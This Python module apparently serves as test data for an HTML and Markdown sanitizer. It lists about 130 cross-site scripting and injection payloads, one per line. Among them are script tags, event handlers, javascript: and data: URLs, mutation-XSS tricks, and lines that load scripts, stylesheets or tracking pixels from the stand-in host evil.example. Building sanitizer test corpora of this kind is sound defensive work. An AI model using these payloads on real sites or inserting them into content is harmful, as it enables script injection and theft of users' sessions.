"""Markup that tries to run something, reach somewhere or cover the page. One trick a line."""

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
</p><script>alert(1)</script><p>
"><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src=`x` onerror=alert(1)>
<img src="https://evil.example/pixel.gif" alt="추적">
<img srcset="https://evil.example/p.gif 1x">
<picture><source srcset=//evil.example/p><img></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>눌러요</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">누르세요</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext><img src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<applet code=evil></applet>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<div style="position:fixed;inset:0;background:red">덮기</div>
<div style="background:url(javascript:alert(1))">글</div>
<p style="width:expression(alert(1))">글</p>
<body onload=alert(1)>
<frameset onload=alert(1)>
<marquee onstart=alert(1)>글</marquee>
<details open ontoggle=alert(1)><summary>열기</summary></details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>가</option></select>
<button onclick=alert(1)>누르기</button>
<form action=javascript:alert(1)><input type=submit></form>
<button formaction=javascript:alert(1)>누르기</button>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">누르기</a>
<a href="JaVaScRiPt:alert(1)">누르기</a>
<a href="&#106;avascript:alert(1)">누르기</a>
<a href="&#x6A;avascript&colon;alert(1)">누르기</a>
<a href="java&#x09;script:alert(1)">누르기</a>
<a href="java&#10;script:alert(1)">누르기</a>
<a href=" &#14; javascript:alert(1)">누르기</a>
<a href="vbscript:msgbox(1)">누르기</a>
<a href="data:text/html,<script>alert(1)</script>">누르기</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">누르기</a>
<a href="blob:https://city.example/1">누르기</a>
<a href="file:///etc/passwd">누르기</a>
<a href="//evil.example">누르기</a>
<a href="/\evil.example">누르기</a>
<a href="\\evil.example">누르기</a>
<a href="/logout">누르기</a>
<a href="https:evil.example">누르기</a>
<a href="https://city.example" target=_blank onclick=alert(1) ping=//evil.example>누르기</a>
<a href="https://city.example/"onmouseover="alert(1)">누르기</a>
<a href='https://city.example/" onmouseover="alert(1)'>누르기</a>
<a xlink:href="javascript:alert(1)">누르기</a>
<p onclick=alert(1)>글</p>
<p id=csrfmiddlewaretoken name=body>글</p>
<p class="button" hx-post="/support/" hx-trigger="load">글</p>
<div data-hx-get=//evil.example hx-on:load="alert(1)">글</div>
<x-y onclick=alert(1)>글</x-y>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo '<script>alert(1)</script>'; ?>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">글</table>
<table><td><script>alert(1)</script>
<p/onmouseover=alert(1)>글
< script>alert(1)</ script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
＜script＞alert(1)＜/script＞
[눌러](javascript:alert(1))
[눌러](JAVASCRIPT:alert(1))
[눌러](javascript&colon;alert(1))
[눌러](data:text/html;base64,PHNjcmlwdD4=)
[눌러](https://city.example "onmouseover=alert(1)")
[눌러](https://city.example/"onmouseover="alert(1))
[눌러](https://city.example/<script>alert(1)</script>)
![그림](https://evil.example/x.png)
![그림](javascript:alert(1))
![a](x" onerror="alert(1))
<javascript:alert(1)>
<https://city.example/"onclick=alert(1)>
[a]: javascript:alert(1)
https://city.example/"onmouseover="alert(1)
https://city.example/'onmouseover='alert(1)
https://city.example/<script>alert(1)</script>
https://city.example/&quot;onmouseover=&quot;alert(1)
https://user:pass@evil.example/
www.city.example"><script>alert(1)</script>
**<img src=x onerror=alert(1)>**
`<img src=x onerror=alert(1)>`
# <svg onload=alert(1)>
- <iframe src=javascript:alert(1)>
> <script>alert(1)</script>
"""

TRICKS = [line for line in PAYLOADS.splitlines() if line]
